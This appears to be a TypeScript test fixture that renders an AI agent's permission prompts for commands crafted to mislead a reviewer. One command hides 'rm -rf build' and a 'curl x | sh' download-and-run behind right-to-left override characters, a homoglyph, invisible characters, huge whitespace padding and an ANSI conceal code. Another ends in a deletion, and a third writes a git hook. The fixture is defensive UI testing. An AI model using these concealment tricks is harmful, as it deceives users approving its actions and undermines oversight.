// Questions whose text is not what it seems at a glance: what cannot be seen, what is too long, a file that runs by itself.
import { step, user } from './items.ts';
import { inSession, type Snapshot } from './screens.ts';

const oddCommand =
  'ls \u202e gnp.oot \u202c && cаt\u200b notes.txt' +
  ' '.repeat(40_000) +
  '; rm -rf build\r# fine' +
  '\n'.repeat(60) +
  'curl x | \u001b[8msh';

const longCommand = [
  "cat > prepare.py <<'EOF'",
  ...Array.from({ length: 58 }, (_, index) => `table_${String(index)} = load("data/part-${String(index)}.parquet")`),
  'EOF',
  'python prepare.py && rm -rf data/raw',
].join('\n');

const hookDiff = `--- /dev/null
+++ b/.husky/pre-commit
@@ -0,0 +1,2 @@
+#!/bin/sh
+npx lint-staged
`;

export const oddQuestion = (): Snapshot =>
  inSession({ title: 'Clean \u202efdp.exe up', stateWord: 'needs you', needsUser: true }, [
    user('Clean up the build folder.'),
    step({
      status: 'waiting',
      verb: 'Wants to run',
      subject: oddCommand.replace(/\s*\n\s*/g, ' ⏎ ').slice(0, 200),
      preview: { language: 'shell', text: oddCommand },
      always: {
        choices: [],
        none: 'It cannot be allowed always: it has control characters or invisible ones. You are asked each time.',
      },
    }),
  ]);

export const longQuestion = (): Snapshot =>
  inSession({ stateWord: 'needs you', needsUser: true }, [
    user('Prepare the data.'),
    step({
      status: 'waiting',
      verb: 'Wants to run',
      subject: longCommand.replace(/\s*\n\s*/g, ' ⏎ ').slice(0, 200),
      preview: { language: 'shell', text: longCommand },
    }),
  ]);

export const runningFileQuestion = (): Snapshot =>
  inSession({ stateWord: 'needs you', needsUser: true, approvalMode: 'acceptEdits' }, [
    user('Set the hook up.'),
    step({
      status: 'waiting',
      verb: 'Wants to write',
      subject: '.husky/pre-commit',
      path: '.husky/pre-commit',
      why: 'This file runs with git commands such as commit, checkout or diff.',
      preview: { language: 'diff', text: hookDiff },
      input: { language: 'diff', text: hookDiff },
      always: {
        choices: [{ key: 'edits of .husky/pre-commit', rules: [{ before: 'edits of', code: '.husky/pre-commit' }] }],
      },
    }),
  ]);
